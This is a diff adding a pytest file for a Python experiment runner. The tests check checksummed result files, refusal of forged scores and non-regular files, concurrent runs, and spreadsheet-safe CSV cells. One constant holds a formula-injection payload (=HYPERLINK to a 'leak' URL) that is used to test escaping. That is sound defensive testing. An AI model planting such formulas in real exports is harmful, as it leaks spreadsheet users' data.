@@ -1,0 +1,223 @@
+"""The runner's result files (issue 28, items 1 and 2): written atomically with a checksum,
+read back only when sound, never opened when they are not regular files; text cells of
+summary.csv spreadsheet-safe."""
+
+import csv
+import json
+import os
+import subprocess
+import sys
+
+import pytest
+
+from sklearn_fair import NestedCV
+from sklearn_fair.cli import main
+from sklearn_fair.exceptions import CacheWarning
+from sklearn_fair.experiment import run_experiment
+from sklearn_fair.experiment._resultfile import checksum, with_checksum
+
+TOML = """\
+[experiment]
+output_dir = "out"
+progress = false
+
+[data]
+dataset = "sklearn:iris"
+
+[protocol]
+outer_cv = 3
+n_refits = 1
+{protocol}
+
+[models.tree]
+estimator = "sklearn.tree.DecisionTreeClassifier"
+params = {{ random_state = 0 }}
+grid = {{ max_depth = [1, 3] }}
+"""
+
+
+@pytest.fixture
+def experiment(tmp_path):
+    path = tmp_path / "exp.toml"
+    path.write_text(TOML.format(protocol=""))
+    return path
+
+
+class CountFits:
+    def __init__(self, monkeypatch):
+        self.count = 0
+        fit = NestedCV.fit
+
+        def counted(nested, *args, **kwargs):
+            self.count += 1
+            return fit(nested, *args, **kwargs)
+
+        monkeypatch.setattr(NestedCV, "fit", counted)
+
+
+def forge(path, edit, recompute_checksum):
+    document = json.loads(path.read_text())
+    edit(document["result"])
+    if recompute_checksum:
+        document = with_checksum(document)
+    path.write_text(json.dumps(document))
+
+
+def every_score(result, value):
+    result["score_mean"] = value
+    for fold in result["outer_results"]:
+        for key in fold["test_scores_per_metric"]:
+            fold["test_scores_per_metric"][key] = [value] * len(fold["test_scores_per_metric"][key])
+
+
+def test_every_json_file_carries_a_checksum_of_its_content(experiment):
+    run_experiment(experiment)
+    out = experiment.parent / "out"
+    for path in [out / "models" / "tree.json", out / "reproducibility.json"]:
+        document = json.loads(path.read_text())
+        assert document["checksum"] == checksum(document)
+        assert document["checksum"].startswith("sha256:")
+    assert not [p for p in out.rglob("*") if ".tmp" in p.name]  # no temporary file is left
+
+
+@pytest.mark.parametrize(
+    "edit, recompute_checksum, reason",
+    [
+        # scores edited, config_hash kept: the checksum no longer matches
+        (lambda r: every_score(r, 0.999), False, "does not match its checksum"),
+        # whoever edits can recompute the checksum: impossible values are still refused
+        (lambda r: every_score(r, 1.5), True, "outside [0.0, 1.0]"),
+        (lambda r: every_score(r, -3), True, "outside [0.0, 1.0]"),
+        (lambda r: every_score(r, float("inf")), True, "not a finite number"),
+        (lambda r: every_score(r, "0.99"), True, "not a"),
+        (lambda r: every_score(r, True), True, "a boolean"),
+        (lambda r: r.pop("outer_results"), True, "no outer_results"),
+        (lambda r: r["metrics"].clear(), True, "metrics are not those of the run"),
+    ],
+)
+def test_a_forged_result_is_not_read_back(
+    experiment, monkeypatch, capsys, edit, recompute_checksum, reason
+):
+    first = run_experiment(experiment)
+    target = experiment.parent / "out" / "models" / "tree.json"
+    forge(target, edit, recompute_checksum)
+    fits = CountFits(monkeypatch)
+    with pytest.warns(CacheWarning, match="computed again") as record:
+        assert main(["run", str(experiment)]) == 0
+    message = str(record[0].message)
+    assert str(target) in message and reason in message, message
+    assert fits.count == 1  # recomputed, not served
+    assert "read back from an earlier run" not in capsys.readouterr().out
+    rerun = json.loads(target.read_text())
+    assert rerun["checksum"] == checksum(rerun)
+    assert rerun["result"]["score_mean"] == first.results["tree"]["score_mean"]
+    # and the summary shows the true numbers, not the forged ones
+    with open(experiment.parent / "out" / "summary.csv", newline="") as file:
+        rows = list(csv.DictReader(file))
+    assert all(0 <= float(row["test_mean"]) <= 1 for row in rows)
+
+
+def test_a_sound_result_is_read_back(experiment, monkeypatch):
+    run_experiment(experiment)
+    fits = CountFits(monkeypatch)
+    assert run_experiment(experiment).status == {"tree": "cached"}
+    assert fits.count == 0
+
+
+@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs")
+@pytest.mark.parametrize("kind", ["fifo", "directory", "symlink"])
+def test_something_other_than_a_file_where_a_result_goes_is_refused(
+    experiment, monkeypatch, capsys, tmp_path, kind
+):
+    models = experiment.parent / "out" / "models"
+    models.mkdir(parents=True)
+    target = models / "tree.json"
+    if kind == "fifo":
+        os.mkfifo(target)  # opened for reading, it would block the run for ever
+    elif kind == "directory":
+        target.mkdir()
+    else:
+        outside = tmp_path / "elsewhere.json"
+        outside.write_text("{}")
+        target.symlink_to(outside)
+    fits = CountFits(monkeypatch)
+    assert main(["run", str(experiment)]) == 2
+    err = capsys.readouterr().err
+    assert str(target) in err and "not a regular file" in err, err
+    assert fits.count == 0  # refused before any fit
+
+
+SCRIPT = """
+import sys
+from sklearn_fair.cli import main
+sys.exit(main(["run", sys.argv[1]]))
+"""
+
+
+def test_two_runners_on_one_folder_leave_every_file_valid(tmp_path):
+    script = tmp_path / "runner.py"
+    script.write_text(SCRIPT)
+    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path), "OMP_NUM_THREADS": "1"}
+    for trial in range(3):
+        folder = tmp_path / f"trial{trial}"
+        folder.mkdir()
+        path = folder / "exp.toml"
+        path.write_text(TOML.format(protocol=""))
+        runners = [
+            subprocess.Popen(
+                [sys.executable, str(script), str(path)],
+                env=env,
+                stdout=subprocess.PIPE,
+                stderr=subprocess.PIPE,
+            )
+            for _ in range(2)
+        ]
+        for runner in runners:
+            _, err = runner.communicate(timeout=600)
+            assert runner.returncode == 0, err.decode()[-2000:]
+        out = folder / "out"
+        for name in ["models/tree.json", "reproducibility.json"]:
+            document = json.loads((out / name).read_text())
+            assert document["checksum"] == checksum(document), name
+        with open(out / "summary.csv", newline="") as file:
+            assert len(list(csv.DictReader(file))) >= 1
+        assert (out / "report.html").read_text().rstrip().endswith("</html>")
+        assert not [p for p in out.rglob("*") if ".tmp" in p.name]
+
+
+FORMULA = '=HYPERLINK("http://127.0.0.1:9/leak?"&A1,"click")'
+
+
+def test_summary_cells_never_start_a_formula(tmp_path):
+    key = FORMULA.replace('"', '\\"')
+    protocol = (
+        f'scoring = {{ "{key}" = "accuracy", "+plus" = "balanced_accuracy", '
+        f'"-minus" = "f1_macro", "@at" = "recall_macro" }}\nrefit = "{key}"'
+    )
+    path = tmp_path / "exp.toml"
+    path.write_text(TOML.format(protocol=protocol))
+    run_experiment(path)
+    with open(tmp_path / "out" / "summary.csv", newline="") as file:
+        text = file.read()
+    # read as a spreadsheet would: quoted cells are text, unquoted ones numbers
+    with open(tmp_path / "out" / "summary.csv", newline="") as file:
+        rows = list(csv.reader(file, quoting=csv.QUOTE_NONNUMERIC))
+    texts = [cell for row in rows for cell in row if isinstance(cell, str)]
+    numbers = [cell for row in rows[1:] for cell in row if not isinstance(cell, str)]
+    assert not [c for c in texts if c[:1] in ("=", "+", "-", "@", "\t", "\r")], text
+    assert "'" + FORMULA in texts  # prefixed with a single quote, the rest kept as text
+    assert "\"'=HYPERLINK(" in text  # and quoted
+    assert {"'+plus", "'-minus", "'@at"} <= set(texts)
+    # numbers stay numbers, negative ones too (the optimism here)
+    mean = rows[0].index("test_mean")
+    assert all(isinstance(row[mean], float) for row in rows[1:])
+    assert any(number < 0 for number in numbers)
+
+
+def test_negative_numbers_stay_numbers():
+    from sklearn_fair.experiment._text import csv_cell
+
+    assert csv_cell(-0.25) == -0.25 and csv_cell(-3) == -3
+    assert csv_cell("-0.25") == "'-0.25"  # a text cell: prefixed
+    assert csv_cell(None) is None and csv_cell("model") == "model"
+    assert csv_cell(True) == "True"  # quoted as text, not written as a bare word
